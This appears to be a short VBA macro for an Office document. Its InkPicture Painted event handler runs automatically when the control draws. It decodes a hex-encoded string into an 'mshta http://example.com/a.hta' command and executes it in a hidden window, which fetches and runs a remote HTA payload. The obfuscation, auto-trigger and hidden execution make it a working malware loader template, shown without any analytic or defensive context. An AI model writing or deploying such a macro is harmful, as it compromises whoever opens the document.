Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle)
    StopHere
    Dim n As Long, line As String
    For n = 1 To 60 Step 2
        line = line & Chr(CLng("&H" & Mid("6D7368746120687474703A2F2F6578616D706C652E636F6D2F612E687461", n, 2)))
    Next n
    Shell Trim(line), 0
End Sub
